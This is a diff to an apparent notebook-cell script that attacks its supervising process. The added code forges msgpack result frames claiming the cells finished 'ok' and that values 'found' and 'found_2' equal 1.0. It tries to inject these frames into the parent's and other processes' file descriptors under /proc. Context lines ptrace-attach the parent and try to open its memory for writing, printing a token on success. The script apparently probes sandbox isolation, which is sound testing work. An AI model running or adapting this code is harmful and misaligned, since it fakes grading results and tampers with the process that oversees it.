@@ -3,19 +3,20 @@
 
 # %%
 import glob
-import json
 import os
 import struct
 
+import msgspec
+
 
 def frame(message):
-    payload = json.dumps(message).encode()
-    return struct.pack(">cQ", b"J", len(payload)) + payload
+    payload = msgspec.msgpack.encode(message)
+    return struct.pack(">Q", len(payload)) + payload
 
 
-forged = b"".join(
-    frame({"kind": "value", "name": name, "value": 1.0}) for name in ("found", "found_2")
-) + frame({"kind": "end", "status": "ok", "reason": ""})
+forged = frame({"kind": "cells_done", "status": "ok", "reason": ""}) + b"".join(
+    frame({"kind": "value", "name": name, "value": "1.0"}) for name in ("found", "found_2")
+)
 places = [f"/proc/{os.getppid()}/fd/{n}" for n in range(30)] + glob.glob("/proc/[0-9]*/fd/*")
 places = [place for place in places if not place.startswith(f"/proc/{os.getpid()}/")]
 for place in places:
@@ -41,6 +42,6 @@ libc = ctypes.CDLL(None, use_errno=True)
 print(libc.ptrace(16, os.getppid(), 0, 0))  # PTRACE_ATTACH
 try:
     os.close(os.open(f"/proc/{os.getppid()}/mem", os.O_RDWR))
-    print(facts["token"], "could write to the driver's memory")
+    print(facts["token"], "could write to the supervisor's memory")
 except OSError:
     pass
